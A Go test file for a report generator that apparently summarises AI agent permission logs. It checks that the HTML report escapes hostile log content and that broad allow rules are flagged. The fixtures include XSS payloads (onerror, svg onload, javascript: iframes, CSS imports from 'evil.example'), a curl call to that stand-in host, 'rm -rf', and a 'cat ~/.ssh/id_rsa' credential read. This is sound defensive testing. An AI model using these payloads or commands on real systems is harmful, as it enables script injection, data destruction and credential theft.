package replay

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/permopa/permopa/builtins/flagspec"
	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/internal/decisionlog"
	"github.com/permopa/permopa/permission"
)

// hostile are commands, paths and rules an agent (or whoever steers it)
// can put in a log: each tries to break out of the report's HTML, SVG,
// attributes or CSS, or to make the report load something.
var hostile = []string{
	`echo '</script><img src=x onerror=alert(1)>'`,
	`echo "><svg onload=alert(2)>" > x`,
	`curl 'https://evil.example/x.js' -o "<script src=https://evil.example/a.js></script>"`,
	`printf '</title></text></svg><iframe src=javascript:alert(3)>'`,
	`x='</style><style>@import url(https://evil.example/c.css)</style>' rm -rf "$x"`,
	`echo ]]><!-- <a href="https://evil.example">` + "\u202e" + `</a>`,
}

// hostileLog is a decision log whose calls carry the hostile strings in
// every field the report shows: the command (subjects, examples,
// programs), the cwd (projects), the mode, the matched rule and layer, and
// the suggested rules.
func hostileLog(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	at := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	for i, cmd := range hostile {
		for j, behavior := range []string{"ASK", "DENY", "ALLOW"} {
			rule := "Bash(" + cmd + ")"
			ev := map[string]any{
				"decision_id": "d", "path": "permopa/policy/decision", "timestamp": at.Add(time.Duration(i*3+j) * time.Hour).Format(time.RFC3339),
				"input": map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd}, "cwd": "/w/<b>" + cmd, "permission_mode": "default<script>"},
				"result": map[string]any{"behavior": behavior, "step": map[string]string{"ASK": "mode_fallback", "DENY": "deny_rule", "ALLOW": "allow_rule"}[behavior],
					"suggested_rules": []any{map[string]any{"tool_name": "Bash", "rule_content": cmd + ":*", "behavior": "ALLOW"}},
					"matched_rule":    map[string]any{"tool_name": "Bash", "rule_content": "*", "behavior": behavior, "layer": "<img src=x onerror=alert(4)>" + cmd}},
			}
			if behavior == "ASK" {
				ev["result"].(map[string]any)["matched_rule"] = nil
				// A mode the policy knows, so that it suggests rules of
				// its own (insights never offers the log's).
				ev["input"].(map[string]any)["permission_mode"] = "default"
			}
			_ = rule
			line, err := json.Marshal(ev)
			if err != nil {
				t.Fatal(err)
			}
			b.Write(append(line, '\n'))
		}
	}
	return b.Bytes()
}

func insightsOf(t *testing.T, log []byte) *Insights {
	t.Helper()
	src := Source{Name: "hostile.log", Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(log)), nil }}
	in, err := RunInsights(context.Background(), []Source{src}, InsightsOptions{Engine: func(ctx context.Context) (*engine.Engine, error) { return engine.New(ctx) }})
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// TestHTMLReportEscapesTheLog: every string from the log reaches the
// report as text, never as markup: no element, attribute, script, style
// or reference comes from the log, and the report loads nothing. The
// document is well-formed (it parses as XML).
func TestHTMLReportEscapesTheLog(t *testing.T) {
	t.Parallel()
	in := insightsOf(t, hostileLog(t))
	if in.Calls != len(hostile)*3 || len(in.Suggestions) == 0 || len(in.BroadAllows) == 0 || len(in.Timeline) == 0 {
		t.Fatalf("the log did not reach every part of the report: %d calls, %d suggestions, %d broad allows, %d buckets", in.Calls, len(in.Suggestions), len(in.BroadAllows), len(in.Timeline))
	}
	var out bytes.Buffer
	if err := WriteInsightsHTML(&out, in, 50); err != nil {
		t.Fatal(err)
	}
	doc := out.Bytes()
	// A bidirectional override from the log would reorder what a reader
	// sees of a command: it is shown as an escape.
	if bytes.ContainsRune(doc, '\u202e') || !bytes.Contains(doc, []byte(`\u202e`)) {
		t.Errorf("the report holds the log's bidirectional override as is")
	}

	// Only the report's own elements and attributes, none from the log.
	allowedTags := map[string]bool{"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true, "h1": true, "h2": true, "h3": true,
		"p": true, "span": true, "table": true, "tr": true, "th": true, "td": true, "code": true, "br": true, "svg": true, "g": true, "rect": true, "line": true, "text": true}
	allowedAttrs := map[string]bool{"lang": true, "charset": true, "name": true, "content": true, "class": true, "style": true, "width": true, "height": true,
		"x": true, "y": true, "x1": true, "y1": true, "x2": true, "y2": true, "transform": true, "stroke": true, "role": true, "aria-label": true}
	var text strings.Builder
	z := html.NewTokenizer(bytes.NewReader(doc))
	inStyle := false
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if !errors.Is(z.Err(), io.EOF) {
				t.Fatal(z.Err())
			}
			break
		}
		tok := z.Token()
		switch tt {
		case html.StartTagToken, html.SelfClosingTagToken:
			if !allowedTags[tok.Data] {
				t.Errorf("element <%s> in the report: markup from the log", tok.Data)
			}
			inStyle = tok.Data == "style"
			for _, a := range tok.Attr {
				if !allowedAttrs[a.Key] || strings.HasPrefix(a.Key, "on") {
					t.Errorf("attribute %s=%q on <%s>: markup from the log", a.Key, a.Val, tok.Data)
				}
				if v := strings.ToLower(a.Val); strings.Contains(v, "http") || strings.Contains(v, "//") || strings.Contains(v, "url(") || strings.Contains(v, "javascript:") {
					t.Errorf("attribute %s=%q on <%s> refers to something to load", a.Key, a.Val, tok.Data)
				}
			}
		case html.EndTagToken:
			inStyle = false
		case html.TextToken:
			if inStyle {
				if s := strings.ToLower(tok.Data); strings.Contains(s, "url(") || strings.Contains(s, "@import") || strings.Contains(s, "http") {
					t.Errorf("the style sheet loads something: %q", tok.Data)
				}
			}
			text.WriteString(tok.Data)
		}
	}
	// The hostile strings are shown, as text.
	for _, h := range hostile {
		if !strings.Contains(text.String(), Short(h, 44)[:20]) {
			t.Errorf("the report does not show %q as text", h)
		}
	}
	// Well-formed: it parses as XML.
	dec := xml.NewDecoder(bytes.NewReader(doc))
	dec.Strict = true
	for {
		_, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("the report is not well-formed: %v", err)
		}
	}
	// Drawing it takes a browser process of seconds: with -tags slow
	// (slow_test.go), which .ci/run uses.
	if slowTests {
		renderHeadless(t, doc)
	}
}

// renderHeadless draws the report with a headless Chromium, when the
// machine has one: it must render (a screenshot is written) from a file,
// with the network off.
func renderHeadless(t *testing.T, doc []byte) {
	t.Helper()
	var browser string
	for _, b := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(b); err == nil {
			browser = p
			break
		}
	}
	if browser == "" {
		t.Log("no headless browser on this machine: the report was not rendered")
		return
	}
	dir := t.TempDir()
	page := filepath.Join(dir, "report.html")
	shot := filepath.Join(dir, "report.png")
	if err := os.WriteFile(page, doc, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
		"--user-data-dir="+filepath.Join(dir, "profile"), "--proxy-server=127.0.0.1:9", "--window-size=1000,2400",
		"--screenshot="+shot, "file://"+page)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v\n%s", browser, err, out)
	}
	st, err := os.Stat(shot)
	if err != nil || st.Size() < 10000 {
		t.Fatalf("no screenshot of the report: %v (%s)", err, out)
	}
	t.Logf("rendered with %s: %d bytes of PNG", filepath.Base(browser), st.Size())
}

// TestInsightsCounts checks the breakdowns on a small log.
func TestInsightsCounts(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	ev := func(cmd, behavior, step string, rule map[string]any, suggested ...string) {
		var sug []any
		for _, s := range suggested {
			sug = append(sug, map[string]any{"tool_name": "Bash", "rule_content": s, "behavior": "ALLOW"})
		}
		line, _ := json.Marshal(map[string]any{
			"input":  map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd}, "cwd": "/w", "permission_mode": "default"},
			"result": map[string]any{"behavior": behavior, "step": step, "matched_rule": rule, "suggested_rules": sug},
		})
		b.Write(append(line, '\n'))
	}
	ev("npm test", "ASK", "mode_fallback", nil, "npm test:*")
	ev("npm test -- -u", "ASK", "mode_fallback", nil, "npm test:*")
	// The log's own suggestion (rm:*) is not offered: the policy's is.
	ev("rm -rf dist && npm test", "ASK", "mode_fallback", nil, "rm:*", "npm test:*")
	ev("git push", "DENY", "deny_rule", map[string]any{"tool_name": "Bash", "rule_content": "git push:*", "behavior": "DENY", "layer": "org"})
	ev("python3 x.py", "ALLOW", "allow_rule", map[string]any{"tool_name": "Bash", "rule_content": "python3:*", "behavior": "ALLOW", "layer": "user"})
	ev("cat ~/.ssh/id_rsa", "ALLOW", "allow_rule", map[string]any{"tool_name": "Bash", "rule_content": nil, "behavior": "ALLOW", "layer": "user"})
	ev("ls", "ALLOW", "read_only", nil)
	in := insightsOf(t, b.Bytes())
	if in.Calls != 7 || in.Behaviors["ASK"] != 3 || in.Behaviors["DENY"] != 1 || in.Behaviors["ALLOW"] != 3 {
		t.Fatalf("counts %+v", in.Behaviors)
	}
	if len(in.Suggestions) != 2 || in.Suggestions[0].Calls != 2 || in.Suggestions[0].Rules[0] != "Bash(npm test:*)" ||
		in.Suggestions[1].Calls != 1 || strings.Join(in.Suggestions[1].Rules, " ") != "Bash(npm test:*) Bash(rm -rf dist)" {
		t.Errorf("suggestions %+v", in.Suggestions)
	}
	if in.ByProgram[0].Key != "npm" || in.ByProgram[0].Ask != 3 {
		t.Errorf("programs %+v", in.ByProgram)
	}
	if len(in.BroadAllows) != 2 {
		t.Fatalf("broad allows %+v", in.BroadAllows)
	}
	for _, ba := range in.BroadAllows {
		switch ba.Rule {
		case "Bash":
			if ba.Level != "high" || ba.Risk.Dangerous != 1 {
				t.Errorf("a tool-wide rule that let a credential read through: %+v", ba)
			}
		case "Bash(python3:*)":
			if !strings.Contains(ba.Why, "python3") {
				t.Errorf("%+v", ba)
			}
		default:
			t.Errorf("not broad: %+v", ba)
		}
	}
	var rules []string
	for _, r := range in.ByRule {
		rules = append(rules, r.Key)
	}
	if !strings.Contains(strings.Join(rules, "|"), "deny_rule: Bash(git push:*) (org)") {
		t.Errorf("by rule %v", rules)
	}
	_ = decisionlog.DefaultPath
}

// TestBroadAllowRules: which allow rules count as broad, and why.
func TestBroadAllowRules(t *testing.T) {
	t.Parallel()
	cases := []struct {
		rule  string
		broad string // a word of the reason, "" for not broad
	}{
		{"Bash", "every call"},
		{"Write", "every call"},
		{"Bash(*)", "wildcards"},
		{"Bash(:*)", "wildcards"},
		{"Read(/**)", "wildcards"},
		{"Edit(**)", "wildcards"},
		{"Read(~/**)", "wildcards"},
		{"Bash(python3:*)", "python3"},
		{"Bash(sudo:*)", "sudo"},
		{"Bash(xargs:*)", "xargs"},
		{"Bash(bash:*)", "bash"},
		{"Bash(/usr/bin/env:*)", "env"},
		{"Bash(npx:*)", "npx"},
		{"Bash(nodejs:*)", "nodejs"},
		{"Bash(julia:*)", "julia"},
		{"Bash(mksh -c:*)", "mksh"},
		{"Bash(parallel:*)", "parallel"},
		{"Bash(git:*)", "git"},
		{"Bash(docker:*)", "docker"},
		{"Bash(ls:*)", ""},
		{"mcp__*", "pattern"},
		{"Bash(npm test:*)", ""},
		{"Bash(git status)", ""},
		{"Bash(python3 scripts/seed.py)", ""},
		{"Write(src/**)", ""},
		{"WebFetch(domain:example.com)", ""},
	}
	for _, c := range cases {
		tool, content, _ := strings.Cut(strings.TrimSuffix(c.rule, ")"), "(")
		r := permission.Rule{ToolName: tool, Behavior: "ALLOW"}
		if content != "" {
			r.RuleContent = &content
		}
		d := &permission.Decision{Behavior: "ALLOW", Step: "allow_rule", MatchedRule: &r}
		why := broadWhy(d)
		if (c.broad == "") != (why == "") || !strings.Contains(why, c.broad) {
			t.Errorf("%s: broad %q, want %q", c.rule, why, c.broad)
		}
	}
}

// The suggested `permopa rules add` commands wrap between words, never in
// the middle of one (a column of a table is as wide as its longest word):
// no break-all anywhere in the report's style, and the commands are code of
// class cmd, which wraps at blanks only.
func TestHTMLReportWrapsCommandsBetweenWords(t *testing.T) {
	t.Parallel()
	in := insightsOf(t, hostileLog(t))
	var out bytes.Buffer
	if err := WriteInsightsHTML(&out, in, 50); err != nil {
		t.Fatal(err)
	}
	doc := out.String()
	if strings.Contains(doc, "break-all") {
		t.Error("the report's style breaks words anywhere (word-break: break-all)")
	}
	if !strings.Contains(doc, "code.cmd { overflow-wrap: break-word; word-break: normal;") {
		t.Error("the commands' code has no style that keeps words whole")
	}
	n := 0
	for _, s := range in.Suggestions {
		if strings.Contains(doc, `<code class="cmd">`+html.EscapeString(s.Command)+`</code>`) {
			n++
		}
	}
	if len(in.Suggestions) == 0 || n != len(in.Suggestions) {
		t.Errorf("%d of %d suggested commands are shown as code.cmd", n, len(in.Suggestions))
	}
}

// TestBroadAllowsFollowTheVocabulary holds replay's broad allows to the
// vocabulary's one table of programs that run code (flagspec.RunsCode):
// an allow rule "Bash(p:*)" for any of them is broad, its exact words are
// not.
func TestBroadAllowsFollowTheVocabulary(t *testing.T) {
	t.Parallel()
	for _, p := range flagspec.CodeRunners() {
		for content, want := range map[string]bool{p + ":*": true, p + " -x *": true, p + " x": false} {
			r := permission.Rule{ToolName: "Bash", Behavior: "ALLOW", RuleContent: &content}
			d := &permission.Decision{Behavior: "ALLOW", Step: "allow_rule", MatchedRule: &r}
			if got := broadWhy(d) != ""; got != want {
				t.Errorf("Bash(%s): broad %v, want %v", content, got, want)
			}
		}
	}
}
